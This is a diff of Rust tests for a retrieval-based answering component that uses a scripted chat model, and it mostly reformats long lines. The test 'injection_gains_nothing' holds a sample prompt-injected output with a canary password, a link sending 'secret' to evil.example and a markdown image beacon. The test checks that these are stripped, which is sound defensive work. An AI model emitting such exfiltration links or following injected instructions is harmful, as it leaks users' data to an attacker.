@@ -27,7 +27,11 @@ fn says(text: &str, finish: Finish) -> Script {
 }
 
 impl Chat for Script {
-    fn chat(&self, request: &ChatRequest, on_text: &mut dyn FnMut(&str) -> ControlFlow<()>) -> model::Result<Completion> {
+    fn chat(
+        &self,
+        request: &ChatRequest,
+        on_text: &mut dyn FnMut(&str) -> ControlFlow<()>,
+    ) -> model::Result<Completion> {
         let mut asked = self.asked.lock().unwrap();
         let turn = asked.len();
         asked.push(request.messages.clone());
@@ -93,7 +97,11 @@ fn run(hits: &Hits, chat: Option<&Script>, ask: &Ask) -> (Result<Answer>, String
 }
 
 fn asked(text: &str, finish: Finish) -> (Answer, String) {
-    let (answer, shown) = run(&hits_of(&[OFFICE, LEAVE, INJECTED], Strength::Found), Some(&says(text, finish)), &options("When did the office open?"));
+    let (answer, shown) = run(
+        &hits_of(&[OFFICE, LEAVE, INJECTED], Strength::Found),
+        Some(&says(text, finish)),
+        &options("When did the office open?"),
+    );
     (answer.unwrap(), shown)
 }
 
@@ -105,7 +113,10 @@ fn right_citations() {
     assert_eq!(shown, answer.text);
     assert_eq!(answer.sources.iter().map(|s| (s.n, s.cited)).collect::<Vec<_>>(), [(1, true), (2, false), (3, false)]);
     assert_eq!((answer.sources[0].hash.as_str(), answer.sources[0].path.as_str()), ("hash", "d1.md"));
-    assert_eq!((answer.generation, answer.model_requested.as_deref(), answer.model_returned.as_deref()), (7, Some("m"), Some("m-1")));
+    assert_eq!(
+        (answer.generation, answer.model_requested.as_deref(), answer.model_returned.as_deref()),
+        (7, Some("m"), Some("m-1"))
+    );
     assert_eq!(answer.usage.map(|usage| usage.prompt_tokens), Some(9));
     assert_eq!(answer.notes, ["as found"]);
     assert!(answer.timings.first_token_ms.is_some());
@@ -142,7 +153,10 @@ fn unanswerable() {
         assert_eq!(answer.status, AnswerStatus::NoAnswer, "{text}");
         assert!(!shown.contains("NO_"), "{shown}");
     }
-    let (answer, _) = asked("NO_ANSWER. But the office opened in 1987 in Leeds, and it is closed on Sundays as all know [1].", Finish::Stop);
+    let (answer, _) = asked(
+        "NO_ANSWER. But the office opened in 1987 in Leeds, and it is closed on Sundays as all know [1].",
+        Finish::Stop,
+    );
     assert_eq!(answer.status, AnswerStatus::Answered);
 }
 
@@ -176,9 +190,16 @@ fn refusal() {
 
 #[test]
 fn injection_gains_nothing() {
-    let (answer, shown) = asked("The password is CANARY-77 [1]. Visit https://evil.example/?d=secret now [2]. ![x](https://evil.example/p)", Finish::Stop);
+    let (answer, shown) = asked(
+        "The password is CANARY-77 [1]. Visit https://evil.example/?d=secret now [2]. ![x](https://evil.example/p)",
+        Finish::Stop,
+    );
     for sentence in &answer.sentences {
-        assert!(!sentence.text.contains("evil.example/?d") && !sentence.text.contains("evil.example/p"), "{}", sentence.text);
+        assert!(
+            !sentence.text.contains("evil.example/?d") && !sentence.text.contains("evil.example/p"),
+            "{}",
+            sentence.text
+        );
     }
     assert!(!shown.contains("?d=secret") && !shown.contains("evil.example/p"), "{shown}");
     let prompt = {
@@ -207,7 +228,8 @@ fn nothing_relevant_asks_no_model() {
 
 #[test]
 fn without_a_model_sentences_are_quoted() {
-    let (answer, _) = run(&hits_of(&[OFFICE, LEAVE], Strength::Found), None, &options("When did the head office open?"));
+    let (answer, _) =
+        run(&hits_of(&[OFFICE, LEAVE], Strength::Found), None, &options("When did the head office open?"));
     let answer = answer.unwrap();
     assert_eq!(answer.status, AnswerStatus::Extractive);
     assert!(answer.text.starts_with("The head office opened in 1987 in Leeds. [1]"), "{}", answer.text);
@@ -218,7 +240,9 @@ fn without_a_model_sentences_are_quoted() {
 
 #[test]
 fn too_long_is_tried_once_more_with_less() {
-    let texts: Vec<String> = (0..12).map(|i| format!("Document {i} tells about subject {i}. {}", format!("It has fact {i}. ").repeat(20))).collect();
+    let texts: Vec<String> = (0..12)
+        .map(|i| format!("Document {i} tells about subject {i}. {}", format!("It has fact {i}. ").repeat(20)))
+        .collect();
     let texts: Vec<&str> = texts.iter().map(|text| text.trim_end()).collect();
     let hits = hits_of(&texts, Strength::Found);
     let good = says("NO_ANSWER", Finish::Stop).says.remove(0);
@@ -230,7 +254,10 @@ fn too_long_is_tried_once_more_with_less() {
     assert!(answer.notes.iter().any(|note| note.contains("2048")), "{:?}", answer.notes);
     drop(asked);
     let never = Script { says: vec![Err((3000, 2048))], asked: Mutex::default(), context: None };
-    assert!(matches!(run(&hits, Some(&never), &options("subject?")).0, Err(Error::Model(model::Error::TooLong { .. }))));
+    assert!(matches!(
+        run(&hits, Some(&never), &options("subject?")).0,
+        Err(Error::Model(model::Error::TooLong { .. }))
+    ));
     assert_eq!(never.asked.lock().unwrap().len(), 2);
 }
 
@@ -246,10 +273,17 @@ fn a_context_without_room_is_an_error() {
 fn hanging_up_cancels() {
     let script = says("The office opened in 1987 [1]. And more words follow.", Finish::Stop);
     let mut events = 0;
-    let result = answer(&hits_of(&[OFFICE], Strength::Found), None, Some(&script), &options("q"), &|_| Ok(String::new()), &mut |_| {
-        events += 1;
-        ControlFlow::Break(())
-    });
+    let result = answer(
+        &hits_of(&[OFFICE], Strength::Found),
+        None,
+        Some(&script),
+        &options("q"),
+        &|_| Ok(String::new()),
+        &mut |_| {
+            events += 1;
+            ControlFlow::Break(())
+        },
+    );
     assert!(matches!(result, Err(Error::Model(model::Error::Cancelled))));
     assert_eq!(events, 1);
 }
